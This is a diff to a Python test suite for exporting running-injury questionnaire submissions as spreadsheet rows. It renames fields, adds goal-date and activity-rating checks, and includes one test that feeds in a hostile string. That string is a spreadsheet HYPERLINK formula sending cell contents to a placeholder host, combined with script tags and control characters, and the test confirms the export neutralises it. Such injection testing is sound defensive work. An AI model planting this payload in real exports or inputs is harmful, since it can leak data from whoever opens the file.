@@ -76,7 +76,9 @@ def test_it_begins_with_a_mark_that_says_utf_8(documents):
 
 
 def test_a_row_says_what_was_answered_and_told(questionnaire, rulebook, documents):
-    answers = healthy_runner(rf_other=["long_cough"], km_last_7d=None)
+    told = {"own_question": "Can I run?", "goal_date": "2027-05-16", "pain_average": 3}
+    told["activities"] = [["Lifting my son", 6], ["Sitting", None]]
+    answers = healthy_runner(**told, rf_general=["weight_loss"], longest_prev30_km=None)
     one = a_submission(questionnaire, rulebook, answers)
     row = row_of(one, documents)
 
@@ -90,15 +92,17 @@ def test_a_row_says_what_was_answered_and_told(questionnaire, rulebook, document
     assert row["next_step_words"] == rulebook.advice.next_steps["see_doctor"].title
     assert row["signs"] == one.record["signs"][0]["id"]
     assert row["signs_words"] == one.record["signs"][0]["because"]
-    assert (row["rf_other"], row["rf_other_words"]) == (
-        "long_cough",
-        "A cough that has lasted more than 3 weeks",
+    assert (row["rf_general"], row["rf_general_words"]) == (
+        "weight_loss",
+        "I am losing weight and do not know why",
     )
     assert (row["age_years"], row["age_years_words"]) == ("35", "35 years")
-    assert (row["km_last_7d"], row["km_last_7d_words"]) == ("", "not answered")
+    assert (row["longest_prev30_km"], row["longest_prev30_km_words"]) == ("", "not answered")
     assert (row["preg_warning"], row["preg_warning_words"]) == ("", "")
-    assert row["own_ask"] == "Can I run my race in May?"
-    assert row["own_stops_rating"] == "6"
+    assert (row["own_question"], row["pain_average"]) == ("Can I run?", "3")
+    assert (row["goal_date"], row["goal_date_words"]) == ("2027-05-16", "16 May 2027")
+    assert row["activities"] == "Lifting my son: 6; Sitting"
+    assert row["activities_words"] == "Lifting my son: 6 out of 10; Sitting"
 
 
 def test_causes_are_told_with_their_strength(questionnaire, rulebook, documents):
@@ -119,23 +123,23 @@ def test_several_ticks_stand_in_one_cell(questionnaire, rulebook, documents):
 
 
 def test_a_distance_is_in_km_beside_what_was_typed(questionnaire, rulebook, documents):
-    given = as_given(questionnaire, healthy_runner()) | {"km_last_7d": Distance(7.3, "mi")}
+    given = as_given(questionnaire, healthy_runner()) | {"longest_recent_km": Distance(7.3, "mi")}
     row = row_of(a_submission_with(a_record(questionnaire, rulebook, given)), documents)
 
-    assert (row["km_last_7d"], row["km_last_7d_words"]) == ("11.7482112", "7.3 miles")
+    told = (row["longest_recent_km"], row["longest_recent_km_words"])
+    assert told == ("11.7482112", "7.3 miles")
 
 
 def test_a_stop_before_anything_was_sent_is_told_as_such(questionnaire, rulebook, documents):
-    one = a_submission(questionnaire, rulebook, {"rf_now": ["fainted"]}, submitted=None, words={})
+    one = a_submission(questionnaire, rulebook, {"rf_now": ["fainted_now"]}, submitted=None)
     row = row_of(one, documents)
 
     assert (row["is_complete"], row["sent_utc"], row["causes"]) == ("no", "", "")
     assert row["next_step"] == "emergency"
-    assert row["own_ask"] == ""
 
 
 def test_what_cannot_be_read_has_a_row_of_its_own(documents):
-    row = row_of(a_submission_with(None, reference=None, words={}), documents)
+    row = row_of(a_submission_with(None, reference=None), documents)
 
     assert {value for name, value in row.items() if value} == {
         *("k4m7x2p9qt", "2026-11-24T09:30", "Robin Hale", "1", "2026-11-23 12:00", "new")
@@ -165,15 +169,16 @@ NASTY = '=HYPERLINK("http://a.example?"&A1)\r\n<script>\u202e\x00", "; -1'
 
 
 def test_nasty_words_reach_no_other_cell(questionnaire, rulebook, documents):
-    words = {"ask": NASTY, "stops": NASTY, "stops_rating": 0}
-    tame = a_submission(questionnaire, rulebook, healthy_runner())
-    nasty = a_submission(questionnaire, rulebook, healthy_runner(), words=words, reference=NASTY)
+    tame = a_submission(questionnaire, rulebook, healthy_runner(own_question="Why?"))
+    written = healthy_runner(own_question=NASTY, activities=[[NASTY, 0]])
+    nasty = a_submission(questionnaire, rulebook, written, reference=NASTY)
     expected = '\'=HYPERLINK("http://a.example?"&A1)\n<script>", "; -1'
     differs = dict(row_of(nasty, documents).items() - row_of(tame, documents).items())
 
     assert differs == {
         "reference": expected,
-        "own_ask": expected,
-        "own_stops": expected,
-        "own_stops_rating": "0",
+        "own_question": expected,
+        "own_question_words": expected,
+        "activities": f"{expected}: 0",
+        "activities_words": f"{expected}: 0 out of 10",
     }
